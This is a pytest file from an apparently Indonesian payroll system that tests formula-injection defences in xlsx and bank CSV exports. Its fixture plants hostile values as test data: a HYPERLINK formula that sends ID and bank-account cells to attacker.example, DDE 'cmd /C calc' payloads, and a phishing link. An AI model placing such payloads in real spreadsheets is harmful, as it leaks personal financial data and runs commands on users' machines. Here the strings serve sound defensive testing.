"""Payroll documents carry names, posts, banks and remarks that people typed: in the xlsx they stay
text (never a formula or a hyperlink that runs when BPKAD opens the list), and in the bank csv a
cell starting with = + - @ is neutralised with an apostrophe while the amounts stay numbers.
Before: an employee named =HYPERLINK("http://attacker.example/?d="&F6&"-"&P6,"Lihat") became a
formula in the daftar nominatif sending the neighbouring cells (NIP, account number) away."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest

from ekinerja.org.models import Employee, Position, Unit
from ekinerja.tpp import exports, services
from ekinerja.tpp.models import Result

from .data import OCT, full_attendance, make_pemda, monthly_minutes, rate

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://attacker.example/?d="&F6&"-"&P6,"Lihat")'
HEAD = "=1+1"
BANK = "@SUM(1+1)*cmd|' /C calc'!A0"
POST = "+2+3"
UNIT = "-1+cmd|' /C calc'!A0"
LINK = "http://attacker.example/phish"


@pytest.fixture
def poisoned_run():
    p = make_pemda()
    staf, kadis = p.people["staf"], p.people["kadis"]
    Employee.objects.filter(pk=staf.pk).update(name=NAME, bank_name=BANK)
    Employee.objects.filter(pk=kadis.pk).update(name=HEAD, back_title=LINK)
    Position.objects.filter(pk=p.pos["staf"].pk).update(name=POST)
    Unit.objects.filter(pk=p.opd_b.pk).update(name=UNIT)
    for e in p.people.values():
        full_attendance(e)
        monthly_minutes(p, e, 12)
        rate(e, "baik")
    run = services.run_compute(actor=p.bkpsdm1, instansi=p.inst, period=OCT)
    run = services.run_verify(actor=p.bkpsdm1, run=run)
    run = services.run_lock(actor=p.bkpsdm2, run=run)
    return p, run


def _formulas_and_links(content: bytes) -> list[bytes]:
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name)
                found += re.findall(rb"<f>[^<]*</f>|<hyperlink [^>]*>", xml)
    return found


def _text_cells(content: bytes) -> dict[str, str]:
    """Every string cell's value -> its data type, over every sheet (formulas kept as formulas)."""
    wb = openpyxl.load_workbook(io.BytesIO(content))
    return {
        c.value: c.data_type
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    }


def test_names_banks_posts_and_units_stay_text_in_the_xlsx(poisoned_run):
    p, run = poisoned_run
    staf = Result.objects.get(run=run, employee=p.people["staf"])
    assert (staf.name, staf.bank_name, staf.position_name) == (NAME, BANK, POST)
    for content in (
        exports.nominatif_xlsx(run),
        exports.nominatif_xlsx(run, p.opd_b),
        exports.nominatif_xlsx(run, p.opd_a),  # the head of unit A signs: his name is HEAD
        exports.recap_xlsx(run),
    ):
        assert _formulas_and_links(content) == []
    cells = _text_cells(exports.nominatif_xlsx(run))
    for value in (NAME, BANK, POST, UNIT):
        assert cells.get(value) == "s", value
    signed_by_head = _text_cells(exports.nominatif_xlsx(run, p.opd_a))
    assert signed_by_head.get(f"{HEAD}, {LINK}") == "s"
    assert _text_cells(exports.recap_xlsx(run)).get(UNIT) == "s"
    # The figures are still numbers: the list's total is what the run pays.
    wb = openpyxl.load_workbook(io.BytesIO(exports.nominatif_xlsx(run)), data_only=True)
    rows = list(wb["Rekap"].iter_rows(values_only=True))
    header = next(r for r in rows if r and r[0] == "No")
    total = next(r for r in rows if r and r[0] == "JUMLAH")
    assert total[header.index("Dibayarkan")] == run.total_payable


def test_bank_csv_neutralises_formulas_and_keeps_amounts_as_numbers(poisoned_run):
    p, run = poisoned_run
    rows = list(csv.reader(io.StringIO(exports.bank_csv(run))))
    header, body = rows[0], rows[1:]
    by_nip = {r[header.index("nip")]: dict(zip(header, r, strict=True)) for r in body}
    staf = by_nip[p.people["staf"].nip]
    assert staf["nama"] == "'" + NAME
    assert staf["bank"] == "'" + BANK
    assert staf["no_rekening"] == Employee.objects.get(pk=p.people["staf"].pk).bank_account
    head = by_nip[p.people["kadis"].nip]
    assert head["nama"] == f"'{HEAD}, {LINK}"
    for row in body:
        assert re.fullmatch(r"[1-9]\d*", row[header.index("jumlah")])
        assert not row[header.index("nama")].startswith(("=", "+", "-", "@"))
    assert sum(int(r[header.index("jumlah")]) for r in body) == run.total_payable
